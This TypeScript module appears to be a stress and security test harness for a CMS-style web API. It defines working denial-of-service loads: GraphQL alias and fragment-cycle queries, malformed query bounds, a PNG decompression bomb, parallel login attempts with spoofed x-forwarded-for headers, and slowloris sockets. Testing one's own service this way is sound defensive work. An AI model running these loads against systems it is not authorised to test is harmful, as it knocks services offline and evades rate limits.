import { connect } from 'node:net'

import sharp from 'sharp'

export type Attack = {
  /** How many do it at once. */
  atOnce: number
  /** Does it once, and says how it was answered. */
  once: (round: number) => Promise<string>
}

export type Target = { baseURL: string; token: string }

type Attacks = Record<string, (target: Target) => Attack | Promise<Attack>>

const PATIENCE_MS = 30_000
/** Of an upload that nobody who is not signed in may send. */
const LARGE_BYTES = 15 * 1024 * 1024
const SIDE = 16_000

const address = (round: number): string => `198.51.100.${String(round % 250)}`

const send = async (url: string, init: RequestInit & { round: number }): Promise<string> => {
  const { headers, round, ...rest } = init
  const answer = await fetch(url, {
    ...rest,
    headers: { 'x-forwarded-for': address(round), ...(headers as Record<string, string>) },
    signal: AbortSignal.timeout(PATIENCE_MS),
  })
  await answer.arrayBuffer()
  return String(answer.status)
}

const sendJSON = (url: string, json: unknown, round: number): Promise<string> =>
  send(url, { body: JSON.stringify(json), headers: { 'content-type': 'application/json' }, method: 'POST', round })

const upload = (data: Uint8Array, { baseURL, token }: Target, round: number): Promise<string> => {
  const body = new FormData()
  body.set('file', new File([new Uint8Array(data)], 'image.png', { type: 'image/png' }))
  body.set('_payload', JSON.stringify({ alt: 'Une image (fictive)' }))
  const headers: Record<string, string> = token ? { authorization: `JWT ${token}` } : {}
  return send(`${baseURL}/api/media`, { body, headers, method: 'POST', round })
}

const ALIASES = `{ ${Array.from({ length: 100 }, (_, index) => `a${String(index)}: Projects(limit: 1000) { docs { id title partners { partner { name } } } }`).join(' ')} }`
const CYCLE = `{ Projects { docs { ...a } } } fragment a on Project { id ...b } fragment b on Project { title ...a }`
const BOUNDS = [
  '/api/projects?limit=0',
  '/api/projects?limit=1000000000',
  '/api/projects?page=99999999999999999999',
  '/api/projects?depth=100',
  '/api/projects?locale=__proto__',
  '/api/projects?limit=1&limit=2',
  `/api/projects?${Array.from({ length: 900 }, (_, index) => `where[or][${String(index)}][title][equals]=x`).join('&')}`,
  `/api/projects?where${'[or][0]'.repeat(9)}[title][equals]=x`,
  `/api/projects?where[id][in]=${'x,'.repeat(5000)}`,
]

/** A socket that says little and hears little: a header, a body, or the reading of an answer that takes for ever. */
const dawdle = ({ baseURL }: Target, round: number): Promise<string> =>
  new Promise((resolve) => {
    const { hostname, port } = new URL(baseURL)
    const socket = connect(Number(port), hostname)
    const head = [
      'GET /api/projects?limit=100&depth=1 HTTP/1.1\r\nHost: x\r\n',
      'POST /api/users/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{',
      'GET /api/projects?limit=100&depth=1 HTTP/1.1\r\nHost: x\r\n\r\n',
    ][round % 3]
    socket.write(head ?? '')
    if (round % 3 === 2) socket.pause()
    const drip = setInterval(() => socket.write(round % 3 === 0 ? 'X-A: b\r\n' : ' '), 1000)
    let text = ''
    socket.on('data', (chunk) => (text += chunk.toString('latin1').slice(0, 20)))
    socket.once('error', () => undefined)
    socket.once('close', () => {
      clearInterval(drip)
      resolve(/^HTTP\/1.1 (\d+)/.exec(text)?.[1] ?? 'closed')
    })
  })

/** The hostile loads, each by a name that the table shows. */
export const ATTACKS: Attacks = {
  'E1 100 aliases x limit 1000': ({ baseURL }) => ({
    atOnce: 4,
    once: (round) => sendJSON(`${baseURL}/api/graphql`, { query: ALIASES }, round),
  }),
  'E2 fragment cycles': ({ baseURL }) => ({
    atOnce: 4,
    once: (round) => sendJSON(`${baseURL}/api/graphql`, { query: CYCLE }, round),
  }),
  'D5 bad bounds': ({ baseURL }) => ({
    atOnce: 8,
    once: (round) => send(`${baseURL}${BOUNDS[round % BOUNDS.length] ?? ''}`, { round }),
  }),
  'F4 big pictures and uploads': async (target) => {
    const { baseURL } = target
    const create = { background: '#0a0', channels: 3, height: SIDE, width: SIDE } as const
    const bomb = await sharp({ create, limitInputPixels: false }).png().toBuffer()
    const large = new Uint8Array(LARGE_BYTES)
    return {
      atOnce: 4,
      // The bomb comes from a colleague's account that was taken over, the large body from anybody.
      once: (round) => upload(round % 2 === 0 ? bomb : large, round % 2 === 0 ? target : { baseURL, token: '' }, round),
    }
  },
  'C4 40 parallel wrong logins': ({ baseURL }) => ({
    atOnce: 40,
    once: (round) =>
      sendJSON(`${baseURL}/api/users/login`, { email: 'admin@example.org', password: `wrong-${String(round)}` }, round),
  }),
  'slow clients': (target) => ({ atOnce: 200, once: (round) => dawdle(target, round) }),
}
